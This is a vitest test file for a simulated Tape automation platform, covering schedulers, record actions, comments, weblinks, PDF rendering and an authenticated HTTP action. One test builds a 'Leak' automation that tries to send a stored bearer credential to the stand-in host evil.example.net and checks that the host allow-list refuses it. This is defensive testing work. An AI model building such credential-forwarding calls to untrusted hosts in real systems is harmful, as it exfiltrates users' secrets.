/**
 * The Tape twin's automations really run: the scheduled triggers (periodic, date_field_arrived) on
 * the twin clock, and the actions that used to be stored-but-inert. Each test asserts the effect on
 * the twin's state, not only the run log.
 */
import { PDFDocument } from 'pdf-lib';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createClock } from '../../infra/twins/kit';
import { createTapeTwin, SANDBOX_KEYS, type TapeTwin, type TapeTwinOptions } from '../../infra/twins/tape';
import { DEMO_DEALS_APP_ID, DEMO_LEADS_APP_ID } from '../../infra/twins/tape/demo';
import { nextSlot, periodicSlots } from '../../infra/twins/tape/automation/schedule';
import { findComment, recordComments, recordRevisions } from '../../infra/twins/tape/records';

const MONDAY_8AM = Date.parse('2026-03-02T08:00:00Z');
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

const open: TapeTwin[] = [];
afterEach(() => {
  for (const t of open.splice(0)) t.close();
});

/** A twin at a fixed clock with the demo apps; `call` speaks HTTP to it with the owner's key. */
function twin(opts: TapeTwinOptions = {}) {
  const t = createTapeTwin({ clock: createClock(MONDAY_8AM), ...opts });
  open.push(t);
  const call = async (method: string, path: string, body?: unknown, key: string = SANDBOX_KEYS.owner) => {
    const res = await t.fetch(`https://api.tapeapp.com${path}`, {
      method,
      redirect: 'manual',
      headers: { authorization: `Bearer ${key}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
      ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
    });
    const text = await res.text();
    let json: any = text;
    try {
      json = JSON.parse(text);
    } catch {
      // HTML and text answers (weblink clicks) stay text
    }
    return { status: res.status, headers: res.headers, body: json };
  };
  const app = (id: number) => t.state.apps.get(id)!;
  const field = (label: string, appId = DEMO_LEADS_APP_ID) => app(appId).fields.find((f) => f.label === label)!;
  const ref = (label: string, appId = DEMO_LEADS_APP_ID, extra: Record<string, unknown> = {}) => ({
    kind: 'variable',
    source: 'field',
    field_id: field(label, appId).field_id,
    field_type: field(label, appId).field_type,
    previous: false,
    collection: false,
    triggering: false,
    ...extra,
  });
  const set = (label: string, value: unknown[], appId = DEMO_LEADS_APP_ID, extra: Record<string, unknown> = {}) => ({
    field_type: field(label, appId).field_type,
    variable_def: ref(label, appId, extra),
    assignment_type: 'set',
    field_value: value,
  });
  const createRecord = async (appId: number, fields: Record<string, unknown>) => {
    const res = await call('POST', `/v1/record/app/${appId}`, { fields });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body.record_id as number;
  };
  const createLead = (name: string, more: Record<string, unknown> = {}) => createRecord(DEMO_LEADS_APP_ID, { [field('Name').field_id]: name, [field('Status').field_id]: 'New', ...more });
  const create = async (body: Record<string, unknown>, appId = DEMO_LEADS_APP_ID) => {
    const res = await call('POST', `/v1/automation/app/${appId}`, body);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body.automation;
  };
  const activate = async (id: number) => {
    const res = await call('POST', `/v1/automation/${id}/activate`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  };
  const live = async (body: Record<string, unknown>, appId = DEMO_LEADS_APP_ID) => {
    const a = await create(body, appId);
    await activate(a.id);
    return a;
  };
  const runs = async (id: number) => {
    await t.automations.idle();
    return ((await call('POST', `/v1/automation-run/automation/${id}`, {})).body.automation_runs as any[]).reverse();
  };
  const runOf = async (id: string) => (await call('GET', `/v1/automation-run/${id}`)).body.automation_run;
  const manualRun = async (id: number, recordId: number) => {
    const res = await call('POST', `/v1/automation/${id}/manual-run`, { record_id: recordId });
    expect(res.status, JSON.stringify((await call('GET', `/v1/automation/${id}/validate`)).body)).toBe(202);
    await t.automations.idle();
    const [latest] = (await call('POST', `/v1/automation-run/automation/${id}`, {})).body.automation_runs;
    return runOf(latest.id);
  };
  const text = (recordId: number, label: string, appId = DEMO_LEADS_APP_ID) => {
    const v = t.state.records.get(recordId)!.values.get(field(label, appId).field_id)?.[0]?.value;
    return typeof v === 'string' ? v.replace(/<[^>]*>/g, '') : v;
  };
  return { t, call, app, field, ref, set, createRecord, createLead, create, activate, live, runs, runOf, manualRun, text };
}

const variable = (label: string) => ({ kind: 'variable', source: 'custom', custom_type: 'any', label });
const trigger = (trigger_type: string) => ({ kind: 'variable', source: 'trigger', trigger_type });

describe('Tape twin scheduler: periodic', () => {
  it('computes the slots of hourly, daily, weekly and monthly schedules in UTC', () => {
    expect(periodicSlots({ interval: 'hourly' }, MONDAY_8AM, MONDAY_8AM + 3 * HOUR)).toEqual([1, 2, 3].map((h) => MONDAY_8AM + h * HOUR));
    expect(periodicSlots({ interval: 'daily', time: '09:30' }, MONDAY_8AM, MONDAY_8AM + 2 * DAY).map((t) => new Date(t).toISOString())).toEqual(['2026-03-02T09:30:00.000Z', '2026-03-03T09:30:00.000Z']);
    // ISO week days: 3 = Wednesday, 5 = Friday.
    expect(periodicSlots({ interval: 'weekly', time: '07:00', week_days: [3, 5] }, MONDAY_8AM, MONDAY_8AM + 7 * DAY).map((t) => new Date(t).toISOString())).toEqual(['2026-03-04T07:00:00.000Z', '2026-03-06T07:00:00.000Z']);
    expect(periodicSlots({ interval: 'monthly', time: '00:00', month_days: [1, 15] }, MONDAY_8AM, MONDAY_8AM + 40 * DAY).map((t) => new Date(t).toISOString())).toEqual(['2026-03-15T00:00:00.000Z', '2026-04-01T00:00:00.000Z']);
    expect(new Date(nextSlot({ interval: 'monthly', month_days: [31] }, Date.parse('2026-04-01T00:00:00Z'))!).toISOString()).toBe('2026-05-31T00:00:00.000Z');
  });

  it('fires on its schedule when the clock moves: one run per slot, with its trigger, creating a record each time; paused, it stops', async () => {
    const { t, field, set, live, runs, runOf, call } = twin();
    const a = await live({
      name: 'Daily digest',
      trigger: { type: 'periodic', config: { interval: 'daily', time: '09:00' } },
      actions: [{ type: 'record_create', config: { app_id: DEMO_LEADS_APP_ID, field_assignments: [set('Name', ['Digest ', trigger('periodic_execution_datetime'), ' next ', trigger('periodic_next_execution_datetime')]), set('Status', ['New'])] } }],
    });
    const digests = () => [...t.state.records.values()].filter((r) => r.title.startsWith('Digest')).map((r) => r.title).sort();
    t.clock.advance(30 * 60_000); // 08:30: nothing due
    expect(await runs(a.id)).toHaveLength(0);
    t.clock.advance(HOUR); // 09:30: the 09:00 slot
    await t.automations.idle();
    expect(digests()).toEqual(['Digest 2026-03-02 09:00:00 next 2026-03-03 09:00:00']);
    const [first] = await runs(a.id);
    const run = await runOf(first.id);
    expect(run).toMatchObject({ status: 'completed', type: 'regular', triggered_on_record_id: null });
    expect(run.logs[0]).toMatchObject({ type: 'trigger', status: 'success', messages: [{ message: 'Triggered by periodic: the slot of 2026-03-02 09:00:00 (UTC).' }] });
    // Three days later: the three missed slots, in order.
    t.clock.advance(3 * DAY);
    await t.automations.idle();
    expect(digests()).toHaveLength(4);
    expect(await runs(a.id)).toHaveLength(4);
    // The created records are the automation's (record history credits it).
    const created = [...t.state.records.values()].find((r) => r.title.startsWith('Digest'))!;
    expect(created.created_by_automation).toEqual({ automation_id: a.id, name: 'Daily digest' });
    const history = await call('GET', `/v1/record/${created.record_id}/revision`);
    expect(history.body.revisions[0].created_by).toEqual({ automation_id: a.id, name: 'Daily digest', type: 'automation', image: null });
    expect((await call('GET', `/v1/record/${created.record_id}`)).body.created_by).toMatchObject({ type: 'automation', name: 'Daily digest' });
    // Paused: no more runs.
    await call('POST', `/v1/automation/${a.id}/pause`);
    t.clock.advance(2 * DAY);
    expect(await runs(a.id)).toHaveLength(4);
  });

  it('fires nothing that fell due before its activation, and ticks on a request after a clock moved outside the twin', async () => {
    const clock = createClock(MONDAY_8AM);
    const { t, create, activate, runs, call } = twin({ clock });
    const a = await create({ name: 'Hourly', trigger: { type: 'periodic', config: { interval: 'hourly' } }, actions: [{ type: 'send_email', config: { to_address: ['ops@example.com'], subject: ['Hourly at ', trigger('periodic_execution_datetime')] } }] });
    t.clock.advance(5 * HOUR); // paused: nothing
    await activate(a.id);
    expect(await runs(a.id)).toHaveLength(0);
    clock.advance(2 * HOUR); // the caller's own clock object: the next request ticks
    await call('GET', '/v1/automation/meta/trigger');
    expect(await runs(a.id)).toHaveLength(2);
    expect(t.automations.outbox.map((m) => m.subject)).toEqual(['Hourly at 2026-03-02 14:00:00', 'Hourly at 2026-03-02 15:00:00']);
  });
});

describe('Tape twin scheduler: date_field_arrived', () => {
  it('fires once per record when its date plus the offset arrives, and updates that record', async () => {
    const { t, call, field, set, live, runs, createLead, text } = twin();
    const date = field('First contact').field_id;
    const past = await createLead('Past', { [date]: '2026-03-01' });
    const soon = await createLead('Soon', { [date]: '2026-03-04' });
    const later = await createLead('Later', { [date]: '2026-03-10' });
    // The seed's leads have first-contact dates around the twin's start too (infra/twins/kit/seed-day.ts): count this test's three.
    const mine = async (id: number) => (await runs(id)).filter((r) => [past, soon, later].includes(r.triggered_on_record_id));
    const a = await live({
      name: 'Follow up a day after first contact',
      trigger: { type: 'date_field_arrived', config: { field_id: date, offset_amount: 1, offset_unit: 'day' } },
      actions: [{ type: 'current_record_update', config: { field_assignments: [set('Notes', ['Follow-up due'])] } }],
    });
    t.clock.set(Date.parse('2026-03-04T23:59:00Z'));
    expect(await mine(a.id)).toHaveLength(0);
    t.clock.set(Date.parse('2026-03-05T00:00:00Z')); // 2026-03-04 + 1 day
    const fired = await mine(a.id);
    expect(fired.map((r) => r.triggered_on_record_id)).toEqual([soon]);
    expect(text(soon, 'Notes')).toBe('Follow-up due');
    expect(text(past, 'Notes')).toBeUndefined(); // arrived before the automation went live
    expect(text(later, 'Notes')).toBeUndefined();
    t.clock.advance(7 * DAY);
    expect((await mine(a.id)).map((r) => r.triggered_on_record_id)).toEqual([soon, later]);
    expect(text(later, 'Notes')).toBe('Follow-up due');
    // Nothing fires twice; a date moved ahead fires again when it arrives.
    t.clock.advance(DAY);
    expect(await mine(a.id)).toHaveLength(2);
    expect((await call('PUT', `/v1/record/${past}`, { fields: { [date]: '2026-03-14' } })).status).toBe(200);
    t.clock.set(Date.parse('2026-03-15T00:00:00Z'));
    expect((await mine(a.id)).map((r) => r.triggered_on_record_id)).toEqual([soon, later, past]);
  });
});

describe('Tape twin scheduler: real time', () => {
  it('keeps one unref\'d timer while a scheduled automation is live, fires from it, and close() stops it', async () => {
    vi.useFakeTimers({ now: MONDAY_8AM, toFake: ['setTimeout', 'clearTimeout', 'Date'] });
    try {
      const { t, live, runs } = twin({ clock: createClock() });
      expect(vi.getTimerCount()).toBe(0);
      const a = await live({ name: 'Hourly', trigger: { type: 'periodic', config: { interval: 'hourly' } }, actions: [{ type: 'send_email', config: { to_address: ['ops@example.com'], subject: ['tick'] } }] });
      expect(vi.getTimerCount()).toBe(1);
      await vi.advanceTimersByTimeAsync(HOUR);
      expect(await runs(a.id)).toHaveLength(1);
      expect(vi.getTimerCount()).toBe(1);
      t.close();
      expect(vi.getTimerCount()).toBe(0);
    } finally {
      vi.useRealTimers();
    }
  });
});

describe('Tape twin: local controls (/_twin)', () => {
  it('moves the clock (firing what became due) and reads the outbox, with a sandbox key only', async () => {
    const { t, live, call } = twin();
    await live({ name: 'Ping', trigger: { type: 'periodic', config: { interval: 'hourly' } }, actions: [{ type: 'send_email', config: { to_address: ['ops@example.com'], subject: ['Ping'], message_body: ['<p>hi</p>'] } }] });
    expect((await call('GET', '/_twin/clock')).body).toEqual({ now: '2026-03-02 08:00:00', now_ms: MONDAY_8AM });
    expect((await call('POST', '/_twin/clock', { advance_ms: 2 * HOUR })).body.now).toBe('2026-03-02 10:00:00');
    await t.automations.idle();
    const outbox = await call('GET', '/_twin/outbox');
    expect(outbox.body.total).toBe(2);
    expect(outbox.body.emails[0]).toMatchObject({ to: ['ops@example.com'], subject: 'Ping', body: '<p>hi</p>' });
    expect((await call('POST', '/_twin/clock', { set: '2026-03-02 09:00:00' })).body.now_ms).toBe(MONDAY_8AM + HOUR);
    expect((await call('POST', '/_twin/clock', { advance_ms: -1 })).status).toBe(400);
    expect((await call('POST', '/_twin/clock', { set: 'tomorrow' })).status).toBe(400);
    expect((await call('GET', '/_twin/outbox', undefined, 'user_key_nope0000000000000000')).status).toBe(401);
  });
});

describe('Tape twin: record collection actions', () => {
  it('collect_app_view_records collects the view\'s records (its filters), and later actions iterate them', async () => {
    const { call, field, set, create, manualRun, createLead, text } = twin();
    const a1 = await createLead('View A', { [field('Company').field_id]: 'Viewco' });
    const a2 = await createLead('View B', { [field('Company').field_id]: 'Viewco' });
    const other = await createLead('Other', { [field('Company').field_id]: 'Elsewhere' });
    const view = await call('POST', `/v1/view/app/${DEMO_LEADS_APP_ID}`, {
      name: 'Viewco leads',
      layout: 'table',
      filters: [{ field_id: field('Company').field_id, field_type: 'single_text', type: 'text', match_type: 'contains', values: [{ value: 'Viewco' }] }],
    });
    expect(view.status, JSON.stringify(view.body)).toBe(201);
    const viewId = view.body.view?.view_id ?? view.body.view_id;
    const a = await create({
      name: 'Tag the view',
      trigger: { type: 'record_created', config: {} },
      actions: [
        { type: 'collect_app_view_records', config: { app_id: DEMO_LEADS_APP_ID, app_view_id: viewId } },
        { type: 'collected_records_update', config: { record_collection: { kind: 'variable', source: 'action', action_type: 'record_collection', app_id: DEMO_LEADS_APP_ID }, field_assignments: [set('Notes', ['In the view'], DEMO_LEADS_APP_ID, { collection: true })] } },
      ],
    });
    const run = await manualRun(a.id, other);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    expect(run.logs[2].messages[0].message).toMatch(/^Collected 2 records from view/);
    expect([text(a1, 'Notes'), text(a2, 'Notes'), text(other, 'Notes')]).toEqual(['In the view', 'In the view', undefined]);
  });

  it('collect_referenced_records follows relations from the current record; the collected-records variant from a collection', async () => {
    const { field, set, create, manualRun, createLead, createRecord, text } = twin();
    const lead = await createLead('Related lead');
    const deal = (name: string) => createRecord(DEMO_DEALS_APP_ID, { [field('Deal name', DEMO_DEALS_APP_ID).field_id]: name, [field('Stage', DEMO_DEALS_APP_ID).field_id]: 'Discovery', [field('Lead', DEMO_DEALS_APP_ID).field_id]: [lead] });
    const d1 = await deal('Deal one');
    const d2 = await deal('Deal two');
    const leadsCol = { kind: 'variable', source: 'action', action_type: 'record_collection', app_id: DEMO_LEADS_APP_ID };
    const dealsCol = { kind: 'variable', source: 'action', action_type: 'record_collection', app_id: DEMO_DEALS_APP_ID };
    // From a deal: its lead (outgoing), stamped.
    const outgoing = await create(
      {
        name: 'Stamp my lead',
        trigger: { type: 'record_created', config: {} },
        actions: [
          { type: 'collect_referenced_records', config: { ref_collection_defs: [{ direction: 'outgoing', match_type: 'all', app_id: DEMO_LEADS_APP_ID }] } },
          { type: 'collected_records_update', config: { record_collection: leadsCol, field_assignments: [set('Notes', ['Has a deal: ', { kind: 'variable', source: 'meta', meta_type: 'record_id' }])] } },
        ],
      },
      DEMO_DEALS_APP_ID,
    );
    expect((await manualRun(outgoing.id, d1)).status).toBe('completed');
    expect(text(lead, 'Notes')).toBe(`Has a deal: ${d1}`);
    // From a collection of leads: the deals pointing at them (incoming), filtered by name.
    const incoming = await create({
      name: 'Mark deals of my leads',
      trigger: { type: 'record_created', config: {} },
      actions: [
        { type: 'collect_app_records', config: { app_id: DEMO_LEADS_APP_ID, match_condition: { operator: 'and', rows: [{ subject: { ...set('Name', []).variable_def, collection: true }, operator: 'is', value: { type: 'text', text: ['Related lead'] } }] } } },
        {
          type: 'collected_records_collect_referenced_records',
          config: {
            record_collection: leadsCol,
            ref_collection_defs: [{ direction: 'incoming', match_type: 'filtered', app_id: DEMO_DEALS_APP_ID, match_condition: { operator: 'and', rows: [{ subject: { ...set('Deal name', [], DEMO_DEALS_APP_ID).variable_def, collection: true }, operator: 'contains', value: { type: 'text', text: ['two'] } }] } }],
          },
        },
        { type: 'collected_records_update', config: { record_collection: dealsCol, field_assignments: [set('Notes', ['Lead is hot'], DEMO_DEALS_APP_ID, { collection: true })] } },
      ],
    });
    const run = await manualRun(incoming.id, lead);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    expect([text(d1, 'Notes', DEMO_DEALS_APP_ID), text(d2, 'Notes', DEMO_DEALS_APP_ID)]).toEqual([undefined, 'Lead is hot']);
  });

  it('referenced_records_update writes the records related to the current record in the given app', async () => {
    const { t, field, set, create, manualRun, createLead, createRecord, text } = twin();
    const lead = await createLead('Lead with deals');
    const loner = await createLead('Lead without deals');
    const deal = await createRecord(DEMO_DEALS_APP_ID, { [field('Deal name', DEMO_DEALS_APP_ID).field_id]: 'Big one', [field('Stage', DEMO_DEALS_APP_ID).field_id]: 'Discovery', [field('Lead', DEMO_DEALS_APP_ID).field_id]: [lead] });
    const a = await create({
      name: 'Note on my deals',
      trigger: { type: 'record_updated', config: {} },
      actions: [{ type: 'referenced_records_update', config: { app_id: DEMO_DEALS_APP_ID, field_assignments: [set('Notes', ['Lead changed: ', { kind: 'variable', source: 'field', field_id: field('Name').field_id, field_type: 'single_text' }], DEMO_DEALS_APP_ID)] } }],
    });
    const run = await manualRun(a.id, lead);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    expect(text(deal, 'Notes', DEMO_DEALS_APP_ID)).toBe('Lead changed: Lead with deals');
    // The deal's history credits the automation.
    expect(recordRevisions(t.state, deal).at(-1)!.actor).toEqual({ automation_id: a.id, name: 'Note on my deals' });
    expect((await manualRun(a.id, loner)).logs.at(-1).messages[0].message).toMatch(/^0 referenced records updated/);
  });
});

describe('Tape twin: record actions', () => {
  it('current_record_get_previous_revision makes the values before the latest change readable', async () => {
    const { call, field, set, ref, create, manualRun, createLead, text } = twin();
    const lead = await createLead('Mover', { [field('Company').field_id]: 'Old Co' });
    expect((await call('PUT', `/v1/record/${lead}`, { fields: { [field('Company').field_id]: 'New Co' } })).status).toBe(200);
    const a = await create({
      name: 'Remember the company',
      trigger: { type: 'record_created', config: {} },
      actions: [
        { type: 'current_record_get_previous_revision', config: {} },
        { type: 'current_record_update', config: { field_assignments: [set('Notes', ['Was ', ref('Company', DEMO_LEADS_APP_ID, { previous: true }), ', now ', ref('Company')])] } },
      ],
    });
    const run = await manualRun(a.id, lead);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    expect(text(lead, 'Notes')).toBe('Was Old Co, now New Co');
  });

  it('replies to the triggering comment and deletes a comment, credited to the automation', async () => {
    const { t, call, live, createLead } = twin();
    const lead = await createLead('Talkative');
    const replier = await live({
      name: 'Auto reply',
      trigger: { type: 'record_comment_or_reply_created', config: {} },
      filter: { operator: 'and', rows: [{ subject: trigger('record_comment_or_reply_entity_type'), operator: 'is', value: { type: 'entity_type', entity_type: 'comment' } }] },
      actions: [{ type: 'current_record_comment_or_reply_reply_create', config: { reply_content: ['Thanks for: ', trigger('record_comment_or_reply_content')] } }],
    });
    const comment = await call('POST', `/v1/comment/record/${lead}`, { value: 'Hello there' });
    expect(comment.status, JSON.stringify(comment.body)).toBe(200);
    await t.automations.idle();
    const thread = recordComments(t.state, lead);
    expect(thread.map((c) => [c.value, c.reply_to ?? null])).toEqual([['Hello there', null], ['Thanks for: Hello there', comment.body.comment_id]]);
    const listed = await call('GET', `/v1/comment/record/${lead}`);
    expect(JSON.stringify(listed.body)).toContain('"type":"automation"');
    // A second automation deletes every comment (and with it the replies).
    await call('POST', `/v1/automation/${replier.id}/pause`);
    const deleter = await live({ name: 'Moderator', trigger: { type: 'record_comment_or_reply_created', config: {} }, actions: [{ type: 'current_record_comment_or_reply_delete', config: {} }] });
    const spam = await call('POST', `/v1/comment/record/${lead}`, { value: 'Buy now' });
    await t.automations.idle();
    expect(findComment(t.state, spam.body.comment_id)).toBeUndefined();
    expect(recordComments(t.state, lead)).toHaveLength(2);
    // Deleting a comment takes its replies along.
    await call('POST', `/v1/automation/${deleter.id}/pause`);
    const first = recordComments(t.state, lead)[0]!;
    const { deleteComment } = await import('../../infra/twins/tape/records');
    deleteComment(t.state, first, { user: t.state.users.get(10000)! });
    expect(recordComments(t.state, lead)).toEqual([]);
  });
});

describe('Tape twin: weblinks', () => {
  it('a generated weblink runs its automation; display_webpage answers the click with a page, redirect_user with a redirect', async () => {
    const { t, call, live, createLead } = twin();
    const lead = await createLead('Clicker');
    const done = await live({
      name: 'Confirm',
      trigger: { type: 'weblink_clicked', config: {} },
      actions: [{ type: 'redirect_user', config: { redirect_url: ['https://example.com/done/', { kind: 'variable', source: 'meta', meta_type: 'record_id' }] } }],
    });
    const start = await live({
      name: 'Landing',
      trigger: { type: 'weblink_clicked', config: {} },
      actions: [
        { type: 'current_record_generate_automation_weblink', config: { automation_id: done.id, weblink_expiration: 'on_click' } },
        { type: 'display_webpage', config: { webpage_body: ['<h1>Hello ', { kind: 'variable', source: 'meta', meta_type: 'record_id' }, '</h1><a href="', { ...variable('Weblink'), custom_type: 'single_link' }, '">confirm</a> (click ', trigger('weblink_click_count'), ')'] } },
        { type: 'display_webpage', config: { join_type: 'add_above', remove_branding: true, webpage_body: ['<p>Top</p>'] } },
      ],
    });
    const minted = await call('POST', '/v1/automation/weblink/generate', { trigger_workflow_def_id: start.id, trigger_on_record_id: lead, expiration_type: 'ONE_DAY' });
    expect(minted.status).toBe(201);
    const page = await t.fetch(minted.body.trigger_client_url);
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toContain('text/html');
    const html = await page.text();
    expect(html.indexOf('<p>Top</p>')).toBeLessThan(html.indexOf(`<h1>Hello ${lead}</h1>`));
    expect(html).toContain('(click 1)');
    expect(html).not.toContain('Powered by Tape');
    const link = /href="([^"]+)"/.exec(html)![1]!;
    expect(link).toMatch(/^https:\/\/weblink\.tapeapp\.com\/trigger\//);
    // The generated link redirects, once (on_click expiry).
    const redirect = await t.fetch(link, { redirect: 'manual' });
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('location')).toBe(`https://example.com/done/${lead}`);
    expect((await t.fetch(link, { redirect: 'manual' })).status).toBe(404);
    // The first link expires after a day of twin time.
    t.clock.advance(DAY);
    expect((await t.fetch(minted.body.trigger_client_url)).status).toBe(410);
  });
});

describe('Tape twin: create_pdf', () => {
  it('renders a real PDF from the templates, kept as a file and attachable to a record', async () => {
    const { t, call, create, manualRun } = twin();
    const app = await call('POST', '/v1/app', {
      workspace_id: 2,
      name: 'Invoices',
      item_name: 'Invoice',
      fields: [
        { field_type: 'single_text', config: { label: 'Title', required: true } },
        { field_type: 'multi_attachment', config: { label: 'Documents' } },
      ],
    });
    expect(app.status, JSON.stringify(app.body)).toBe(200);
    const appId = app.body.app_id;
    const [title, docs] = app.body.fields.map((f: any) => f);
    const inv = await call('POST', `/v1/record/app/${appId}`, { fields: { [title.field_id]: 'Invoice 7' } });
    const pdfVar = { kind: 'variable', source: 'custom', custom_type: 'single_file', label: 'PDF' };
    const a = await create(
      {
        name: 'Render invoice',
        trigger: { type: 'record_created', config: {} },
        actions: [
          {
            type: 'create_pdf',
            config: {
              filename: ['invoice-', { kind: 'variable', source: 'meta', meta_type: 'record_id' }],
              page_size: 'a5',
              page_orientation: 'landscape',
              page_numbers_enabled: true,
              pdf_body: ['<h1>', { kind: 'variable', source: 'field', field_id: title.field_id, field_type: 'single_text' }, '</h1>', '<p>Thank you.</p>'.repeat(60)],
            },
          },
          { type: 'current_record_update', config: { field_assignments: [{ field_type: 'multi_attachment', variable_def: { kind: 'variable', source: 'field', field_id: docs.field_id, field_type: 'multi_attachment' }, assignment_type: 'set', field_value: [pdfVar] }] } },
        ],
      },
      appId,
    );
    const run = await manualRun(a.id, inv.body.record_id);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    const file = [...t.state.files.values()].find((f) => f.name === `invoice-${inv.body.record_id}.pdf`)!;
    expect(file.mimetype).toBe('application/pdf');
    expect(Buffer.from(file.content.slice(0, 5)).toString()).toBe('%PDF-');
    const pdf = await PDFDocument.load(file.content);
    expect(pdf.getPageCount()).toBeGreaterThan(1); // 60 paragraphs do not fit an A5 page
    const { width, height } = pdf.getPage(0).getSize();
    expect([Math.round(width), Math.round(height)]).toEqual([595, 420]);
    const attached = (await call('GET', `/v1/record/${inv.body.record_id}`)).body.fields.find((f: any) => f.field_id === docs.field_id);
    expect(attached.values[0].value).toMatchObject({ filename: file.name, size: file.size });
  });
});

describe('Tape twin: authenticated_http_call', () => {
  it('signs with the stored provider credential, to allowed hosts only, and never logs it', async () => {
    const sent: { url: string; auth: string | null }[] = [];
    const fetch = (async (input: string | URL | Request, init?: RequestInit) => {
      sent.push({ url: String(input), auth: new Headers(init?.headers).get('authorization') });
      return new Response(JSON.stringify({ ok: true }), { status: 200, headers: { 'content-type': 'application/json' } });
    }) as typeof globalThis.fetch;
    const { t, create, manualRun, createLead } = twin({ automations: { httpHosts: ['api.example.com'], fetch, authProviders: [{ id: 44, name: 'CRM', headers: { Authorization: 'Bearer crm-secret-123' } }] } });
    const lead = await createLead('Synced');
    const call = (url: string, provider?: number) => ({
      type: 'authenticated_http_call',
      config: { http_call_type: 'post', http_call_url: [url, { kind: 'variable', source: 'meta', meta_type: 'record_id' }], http_call_body: ['{"status":"synced"}'], ...(provider !== undefined ? { authentication_provider_id: provider } : {}), custom_variable_defs: [{ custom_type: 'any', label: 'Response' }] },
    });
    const ok = await create({ name: 'Sync', trigger: { type: 'record_created', config: {} }, actions: [call('https://api.example.com/records/', 44)] });
    const run = await manualRun(ok.id, lead);
    expect(run.status, JSON.stringify(run.logs)).toBe('completed');
    expect(sent).toEqual([{ url: `https://api.example.com/records/${lead}`, auth: 'Bearer crm-secret-123' }]);
    expect(t.automations.httpCalls.at(-1)).toMatchObject({ allowed: true, status: 200, authentication_provider_id: 44, headers: { Authorization: '[authentication provider 44]' } });
    expect(JSON.stringify(run)).not.toContain('crm-secret-123');
    // Another host: refused, nothing sent.
    const evil = await create({ name: 'Leak', trigger: { type: 'record_created', config: {} }, actions: [call('https://evil.example.net/', 44)] });
    const refused = await manualRun(evil.id, lead);
    expect(refused.status).toBe('failed');
    expect(sent).toHaveLength(1);
    // No provider: skipped, as Tape documents; an unknown one fails the run.
    const none = await create({ name: 'Unsigned', trigger: { type: 'record_created', config: {} }, actions: [call('https://api.example.com/x/')] });
    expect((await manualRun(none.id, lead)).logs.at(-1)).toMatchObject({ status: 'skipped' });
    const unknown = await create({ name: 'Unknown provider', trigger: { type: 'record_created', config: {} }, actions: [call('https://api.example.com/x/', 99)] });
    expect(await manualRun(unknown.id, lead)).toMatchObject({ status: 'failed', error_message: 'Authentication provider 99 does not exist.' });
    expect(sent).toHaveLength(1);
  });
});
